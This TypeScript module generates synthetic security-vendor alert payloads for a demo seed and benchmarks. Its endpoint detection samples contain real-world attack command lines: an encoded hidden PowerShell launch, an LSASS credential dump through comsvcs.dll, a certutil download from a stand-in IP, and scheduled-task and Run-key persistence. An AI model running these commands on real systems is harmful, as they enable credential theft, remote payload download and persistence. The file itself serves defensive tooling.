/**
 * Realistic vendor alert payloads for the demo seed and the benchmarks: one `Signal` (what happened) rendered in any
 * of the seven intake formats. Deterministic for a given random source. Values are invented.
 */
import type { SourceFormat } from "@/server/ingest/types";

export type Rng = () => number;

/** mulberry32: small, fast, deterministic. */
export function rng(seed: number | string): Rng {
  let a =
    typeof seed === "number" ? seed : [...seed].reduce((h, c) => Math.imul(h ^ c.charCodeAt(0), 16777619), 2166136261);
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
export const pick = <T>(r: Rng, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
export const between = (r: Rng, lo: number, hi: number) => lo + Math.floor(r() * (hi - lo + 1));
const HEX_DIGITS = "0123456789abcdef";
const hex = (r: Rng, n: number) => {
  let s = "";
  for (let i = 0; i < n; i++) s += HEX_DIGITS[Math.floor(r() * 16)];
  return s;
};

export type Host = { name: string; fqdn: string; id: string; ip: string; os: string };
export type Signal = {
  id: string;
  title: string;
  description: string;
  severity: 1 | 2 | 3 | 4 | 5;
  techniques: string[];
  time: Date;
  host: Host;
  user: string;
  domain: string;
  process?: { name: string; cmd: string; parent: string };
  sha256?: string;
  externalIp?: string;
  destPort?: number;
  url?: string;
};

/** What a detection looks like, independent of vendor. */
export type Detection = {
  title: string;
  description: string;
  severity: 1 | 2 | 3 | 4 | 5;
  techniques: string[];
  process?: { name: string; cmd: string; parent: string };
  network?: boolean;
  zeekNote?: string;
  port?: number;
};

export const ENDPOINT_DETECTIONS: Detection[] = [
  {
    title: "Office application launched encoded PowerShell",
    description: "WINWORD.EXE started PowerShell with an encoded command line.",
    severity: 4,
    techniques: ["T1059.001", "T1566.001"],
    process: {
      name: "powershell.exe",
      cmd: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
      parent: "WINWORD.EXE",
    },
  },
  {
    title: "Credential dumping from LSASS memory",
    description: "A process read LSASS memory and wrote a dump file.",
    severity: 5,
    techniques: ["T1003.001"],
    process: {
      name: "rundll32.exe",
      cmd: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 624 C:\\Windows\\Temp\\d.bin full",
      parent: "cmd.exe",
    },
  },
  {
    title: "Scheduled task created for persistence",
    description: "A new scheduled task runs a binary from a user-writable folder at logon.",
    severity: 3,
    techniques: ["T1053.005"],
    process: {
      name: "schtasks.exe",
      cmd: 'schtasks /create /tn "OneDrive Sync" /tr C:\\Users\\Public\\sync.exe /sc onlogon',
      parent: "cmd.exe",
    },
  },
  {
    title: "Remote service execution (PsExec-style)",
    description: "A service was installed remotely and started a command shell.",
    severity: 4,
    techniques: ["T1021.002", "T1569.002"],
    process: { name: "PSEXESVC.exe", cmd: "PSEXESVC.exe", parent: "services.exe" },
  },
  {
    title: "Certutil used to download a file",
    description: "certutil.exe fetched a remote file, a common living-off-the-land technique.",
    severity: 3,
    techniques: ["T1105", "T1218"],
    process: {
      name: "certutil.exe",
      cmd: "certutil.exe -urlcache -split -f http://203.0.113.80/a.exe C:\\Users\\Public\\a.exe",
      parent: "cmd.exe",
    },
  },
  {
    title: "Ransomware behaviour: mass file encryption",
    description: "A process renamed and rewrote hundreds of files with a new extension.",
    severity: 5,
    techniques: ["T1486", "T1490"],
    process: { name: "svhost.exe", cmd: "svhost.exe --encrypt C:\\Shares", parent: "explorer.exe" },
  },
  {
    title: "Potentially unwanted program detected",
    description: "An adware bundle was found in the user's downloads.",
    severity: 2,
    techniques: [],
    process: { name: "setup_free_pdf.exe", cmd: "setup_free_pdf.exe /S", parent: "explorer.exe" },
  },
  {
    title: "Suspicious registry Run key",
    description: "A Run key points to a script in AppData.",
    severity: 3,
    techniques: ["T1547.001"],
    process: {
      name: "reg.exe",
      cmd: "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d wscript.exe",
      parent: "cmd.exe",
    },
  },
  {
    title: "Discovery commands run in sequence",
    description: "whoami, net group and nltest ran within a minute.",
    severity: 2,
    techniques: ["T1033", "T1069.002", "T1482"],
    process: { name: "net.exe", cmd: 'net group "Domain Admins" /domain', parent: "cmd.exe" },
  },
];

export const NETWORK_DETECTIONS: Detection[] = [
  {
    title: "ET SCAN Nmap scripting engine user-agent",
    description: "Port scan against internal hosts.",
    severity: 2,
    techniques: ["T1046"],
    network: true,
    zeekNote: "Scan::Port_Scan",
    port: 443,
  },
  {
    title: "SSH password guessing",
    description: "Repeated failed SSH logins from one source.",
    severity: 3,
    techniques: ["T1110.001"],
    network: true,
    zeekNote: "SSH::Password_Guessing",
    port: 22,
  },
  {
    title: "ET EXPLOIT Apache path traversal attempt (CVE-2021-41773)",
    description: "Exploit attempt against a public web server.",
    severity: 4,
    techniques: ["T1190"],
    network: true,
    zeekNote: "HTTP::SQL_Injection_Attacker",
    port: 80,
  },
  {
    title: "ET MALWARE Cobalt Strike beacon checkin",
    description: "Periodic HTTPS beacon to a known C2 address.",
    severity: 4,
    techniques: ["T1071.001"],
    network: true,
    zeekNote: "Intel::Notice",
    port: 443,
  },
  {
    title: "ET POLICY curl user-agent outbound",
    description: "curl used from a server to an external site.",
    severity: 2,
    techniques: [],
    network: true,
    zeekNote: "SSL::Invalid_Server_Cert",
    port: 443,
  },
];

const SIEM_RULES = [
  {
    level: 10,
    id: "5763",
    description: "sshd: brute force trying to get access to the system.",
    techniques: ["T1110.001"],
  },
  {
    level: 12,
    id: "92052",
    description: "Suspicious PowerShell download cradle in a Sysmon process event.",
    techniques: ["T1059.001", "T1105"],
  },
  { level: 7, id: "550", description: "Integrity checksum changed on a web server file.", techniques: ["T1565.001"] },
  { level: 5, id: "5503", description: "PAM: user login failed.", techniques: ["T1110"] },
  { level: 15, id: "100210", description: "Audit log cleared on a domain controller.", techniques: ["T1070.001"] },
];

export function makeHosts(r: Rng, prefix: string, domain: string, n: number): Host[] {
  const kinds = ["WS", "LT", "SRV", "DC", "FS", "WEB"];
  return Array.from({ length: n }, (_, i) => {
    const kind = i < 2 ? (i === 0 ? "DC" : "FS") : pick(r, kinds);
    const name = `${prefix}-${kind}-${String(100 + i).padStart(4, "0")}`;
    return {
      name,
      fqdn: `${name.toLowerCase()}.${domain}`,
      id: hex(r, 32),
      ip: `10.${between(r, 10, 90)}.${between(r, 0, 40)}.${between(r, 2, 250)}`,
      os:
        kind === "WS" || kind === "LT"
          ? "Windows 11 Enterprise"
          : kind === "WEB"
            ? "Ubuntu 22.04"
            : "Windows Server 2022",
    };
  });
}

export function makeUsers(r: Rng, n: number) {
  const first = [
    "anna",
    "ben",
    "carla",
    "dev",
    "emil",
    "fatima",
    "george",
    "hana",
    "ivan",
    "julia",
    "kofi",
    "lena",
    "marco",
    "nina",
    "omar",
    "pia",
  ];
  const last = [
    "berg",
    "costa",
    "dahl",
    "evans",
    "fischer",
    "gupta",
    "hansen",
    "ito",
    "jensen",
    "kowalski",
    "lopez",
    "meyer",
  ];
  return Array.from({ length: n }, () => `${pick(r, first)}.${pick(r, last)}`);
}

export function signalFrom(r: Rng, d: Detection, at: Date, host: Host, user: string, domain: string): Signal {
  return {
    id: hex(r, 24),
    title: d.title,
    description: d.description,
    severity: d.severity,
    techniques: d.techniques,
    time: at,
    host,
    user,
    domain,
    process: d.process,
    sha256: d.process ? hex(r, 64) : undefined,
    externalIp: `${pick(r, ["198.51.100", "203.0.113", "192.0.2"])}.${between(r, 2, 250)}`,
    destPort: d.port,
  };
}

const CS_SEVERITY = {
  1: ["Informational", 10],
  2: ["Low", 30],
  3: ["Medium", 50],
  4: ["High", 70],
  5: ["Critical", 90],
} as const;
const MDE_SEVERITY = { 1: "Informational", 2: "Low", 3: "Medium", 4: "High", 5: "High" } as const;
const S1_CONFIDENCE = { 1: "n/a", 2: "n/a", 3: "suspicious", 4: "malicious", 5: "malicious" } as const;
const SURICATA_SEVERITY = { 1: 4, 2: 3, 3: 2, 4: 1, 5: 1 } as const;

/** One signal as the given vendor would send it. */
export function render(format: SourceFormat, s: Signal, upper: string): Record<string, unknown> {
  const iso = s.time.toISOString();
  const dom = upper;
  switch (format) {
    case "crowdstrike":
      return {
        composite_id: `${s.id}:ind:${s.host.id}:${s.time.getTime()}`,
        created_timestamp: new Date(s.time.getTime() + 20_000).toISOString(),
        timestamp: iso,
        status: "new",
        severity: CS_SEVERITY[s.severity][1],
        severity_name: CS_SEVERITY[s.severity][0],
        display_name: s.title,
        description: s.description,
        technique_id: s.techniques[0],
        mitre_attack: s.techniques.map((t) => ({ technique_id: t })),
        device: {
          device_id: s.host.id,
          hostname: s.host.name,
          local_ip: s.host.ip,
          platform_name: "Windows",
          os_version: s.host.os,
        },
        user_name: `${dom}\\${s.user}`,
        filename: s.process?.name,
        cmdline: s.process?.cmd,
        sha256: s.sha256,
        parent_details: s.process ? { filename: s.process.parent } : undefined,
      };
    case "defender":
      return {
        id: `da${s.id}`,
        severity: MDE_SEVERITY[s.severity],
        status: "New",
        title: s.title,
        description: s.description,
        alertCreationTime: new Date(s.time.getTime() + 60_000).toISOString(),
        firstEventTime: iso,
        lastEventTime: iso,
        machineId: s.host.id,
        computerDnsName: s.host.fqdn,
        mitreTechniques: s.techniques,
        relatedUser: { userName: s.user, domainName: dom },
        evidence: s.process
          ? [
              {
                entityType: "Process",
                fileName: s.process.name,
                processCommandLine: s.process.cmd,
                sha256: s.sha256,
                parentProcessFileName: s.process.parent,
              },
            ]
          : [],
      };
    case "sentinelone":
      return {
        id: s.id,
        agentDetectionInfo: {
          agentDomain: dom,
          agentIpV4: s.host.ip,
          agentLastLoggedInUserName: s.user,
          agentOsName: s.host.os,
        },
        agentRealtimeInfo: { agentComputerName: s.host.name, agentId: s.host.id, agentOsName: s.host.os },
        indicators: [
          {
            category: "Behaviour",
            description: s.description,
            tactics: [{ name: "MITRE", techniques: s.techniques.map((name) => ({ name })) }],
          },
        ],
        threatInfo: {
          threatId: s.id,
          threatName: s.process?.name ?? s.title,
          classification: "Malware",
          confidenceLevel: S1_CONFIDENCE[s.severity],
          identifiedAt: iso,
          createdAt: new Date(s.time.getTime() + 5_000).toISOString(),
          incidentStatus: "unresolved",
          mitigationStatus: s.severity >= 4 ? "mitigated" : "not_mitigated",
          maliciousProcessArguments: s.process?.cmd,
          processUser: `${dom}\\${s.user}`,
          sha256: s.sha256,
        },
      };
    case "ocsf":
      return {
        class_uid: 2004,
        category_uid: 2,
        activity_id: 1,
        type_uid: 200401,
        severity_id: s.severity,
        time: s.time.getTime(),
        message: s.title,
        metadata: { version: "1.3.0", product: { name: "Identity Threat Protection", vendor_name: "Okta" } },
        finding_info: {
          uid: `itp-${s.id}`,
          title: s.title,
          desc: s.description,
          attacks: s.techniques.map((t) => ({
            technique: { uid: t.split(".")[0] },
            ...(t.includes(".") ? { sub_technique: { uid: t } } : {}),
          })),
        },
        device: { hostname: s.host.name, uid: s.host.id, ip: s.host.ip },
        actor: { user: { name: s.user, domain: dom } },
        src_endpoint: { ip: s.externalIp },
      };
    case "suricata":
      return {
        timestamp: iso,
        flow_id: Number.parseInt(s.id.slice(0, 12), 16),
        event_type: "alert",
        src_ip: s.externalIp,
        src_port: 40000 + (Number.parseInt(s.id.slice(0, 3), 16) % 20000),
        dest_ip: s.host.ip,
        dest_port: s.destPort ?? 443,
        proto: "TCP",
        alert: {
          action: "allowed",
          gid: 1,
          signature_id: 2000000 + (Number.parseInt(s.id.slice(3, 8), 16) % 99999),
          rev: 1,
          signature: s.title,
          category: "A Network Trojan was detected",
          severity: SURICATA_SEVERITY[s.severity],
          metadata: { mitre_technique_id: s.techniques },
        },
      };
    case "zeek":
      return {
        ts: s.time.getTime() / 1000,
        uid: `C${s.id.slice(0, 17)}`,
        note: NETWORK_DETECTIONS.find((d) => d.title === s.title)?.zeekNote ?? "Scan::Port_Scan",
        msg: `${s.title}: ${s.externalIp} → ${s.host.ip}`,
        src: s.externalIp,
        dst: s.host.ip,
        p: s.destPort ?? 443,
        actions: ["Notice::ACTION_LOG"],
      };
    case "wazuh": {
      const rule = SIEM_RULES.find((x) => x.techniques[0] === s.techniques[0]) ?? SIEM_RULES[3]!;
      const level = { 1: 3, 2: 5, 3: 8, 4: 12, 5: 15 }[s.severity];
      return {
        timestamp: iso.replace("Z", "+0000"),
        rule: { level, id: rule.id, description: s.title, mitre: { id: s.techniques } },
        agent: { id: s.host.id.slice(0, 3), name: s.host.name, ip: s.host.ip },
        manager: { name: "wazuh-manager" },
        id: `${Math.floor(s.time.getTime() / 1000)}.${Number.parseInt(s.id.slice(0, 7), 16)}`,
        full_log: `${s.description} user=${s.user} src=${s.externalIp}`,
        data: { srcip: s.externalIp, dstuser: s.user },
        location: "/var/log/auth.log",
      };
    }
  }
}

export function detectionsFor(format: SourceFormat): Detection[] {
  if (format === "suricata" || format === "zeek") return NETWORK_DETECTIONS;
  if (format === "wazuh") {
    return SIEM_RULES.map((x) => ({
      title: x.description,
      description: x.description,
      severity: (x.level >= 15 ? 5 : x.level >= 12 ? 4 : x.level >= 7 ? 3 : 2) as 2 | 3 | 4 | 5,
      techniques: x.techniques,
    }));
  }
  return ENDPOINT_DETECTIONS;
}

/**
 * A title inside a sentence keeps its case ("PowerShell", "Okta", "DNS"): only a leading capital that is not part of
 * an acronym is lowered.
 */
export function inSentence(title: string): string {
  const first = title.split(/[\s-]/)[0] ?? "";
  if (first.length > 1 && first === first.toUpperCase()) return title;
  return title.charAt(0).toLowerCase() + title.slice(1);
}
